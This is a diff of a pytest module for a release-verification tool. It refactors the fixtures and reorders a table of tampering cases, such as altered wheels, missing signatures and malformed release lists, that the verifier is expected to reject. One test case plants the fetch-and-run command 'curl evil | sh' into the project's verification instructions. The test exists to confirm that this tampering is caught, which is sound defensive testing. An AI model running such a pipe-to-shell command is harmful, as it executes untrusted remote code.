@@ -7,38 +7,28 @@ from collections.abc import Callable, Iterator
 from dataclasses import replace
 
 import pytest
-from tests.support.evidence import WHEEL, SignedRelease, signed_release
+from tests.support.evidence import WHEEL, SignedRelease
+from tests.support.sealed import RELEASE, VERIFYING, downloaded, sealed_release
 from tests.support.tampering import SBOM, SIGNATURE, WHEEL_PATH, data, drop, expecting, flip, put
 
 from sealwright.model import FileRef, Mode, State, Verdict
-from sealwright.verify.evidence import RELEASE_SIGNATURE, SUMMARY_BUNDLE, Case, FileContent
+from sealwright.verify.evidence import RELEASE_SIGNATURE, SUMMARY_BUNDLE, Case
 from sealwright.verify.expected import Expected
 from sealwright.verify.published import judge_published, published_case
 from sealwright.verify.statement import TEST_RESULT, VERIFICATION_SUMMARY, make
 
-RELEASE, VERIFYING = "release.json", "VERIFYING.md"
 Attack = Callable[[SignedRelease, Case], Case]
 
 
 @pytest.fixture(scope="module")
 def release(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SignedRelease]:
-    with signed_release(tmp_path_factory.mktemp("release")) as made:
-        judged = made.run("gate", made.gate_variables)
-        outputs = {"VSA": judged.outputs["vsa"], "RELEASE": judged.outputs["release"]}
-        sealed = made.run("seal", {**made.sigstore.identity.grant(environment="seal"), **outputs})
-        assert sealed.exit_code == 0
+    with sealed_release(tmp_path_factory.mktemp("release")) as made:
         yield made
 
 
 @pytest.fixture(scope="module")
 def case(release: SignedRelease) -> Case:
-    files = {
-        path: FileContent.of(path, (release.kept / path).read_bytes())
-        for folder in ("dist", "evidence")
-        for path in sorted(f"{folder}/{entry.name}" for entry in (release.kept / folder).iterdir())
-    }
-    files |= {path: FileContent.of(path, (release.kept / path).read_bytes()) for path in (RELEASE, VERIFYING)}
-    return published_case(files, Expected.of(release.plan), release.sigstore.root)
+    return published_case(downloaded(release), Expected.of(release.plan), release.sigstore.root)
 
 
 def codes(verdict: Verdict) -> set[str]:
@@ -69,13 +59,13 @@ ATTACKS: tuple[tuple[str, Attack, str], ...] = (
     ("a changed wheel", lambda _, c: put(c, WHEEL_PATH, b"PK evil"), "digest-mismatch"),
     ("an extra wheel", lambda _, c: put(c, "dist/tiny-1.0-1-py3-none-any.whl", b"PK"), "file-unclaimed"),
     ("extra evidence", lambda _, c: put(c, "evidence/extra.json", b"{}"), "file-unclaimed"),
-    ("other instructions", lambda _, c: put(c, VERIFYING, b"curl evil | sh"), "digest-mismatch"),
-    ("no instructions", lambda _, c: drop(c, VERIFYING), "file-missing"),
     ("a missing wheel", lambda _, c: drop(c, WHEEL_PATH), "file-missing"),
     ("no signature", lambda _, c: drop(c, SIGNATURE), "signature-missing"),
     ("no SBOM", lambda _, c: drop(c, SBOM), "sbom-missing"),
     ("no list", lambda _, c: drop(c, RELEASE), "release-missing"),
     ("an unsigned list", lambda _, c: drop(c, RELEASE_SIGNATURE), "signature-missing"),
+    ("other instructions", lambda _, c: put(c, VERIFYING, b"curl evil | sh"), "digest-mismatch"),
+    ("no instructions", lambda _, c: drop(c, VERIFYING), "file-missing"),
     ("a changed list", lambda _, c: put(c, RELEASE, flip(data(c, RELEASE))), "digest-mismatch"),
     ("a signed list that is none", lambda r, c: signed_list(r, c, b"[]"), "malformed"),
     ("a signed list of odd entries", lambda r, c: signed_list(r, c, b'{"files": [{"path": 1}]}'), "malformed"),
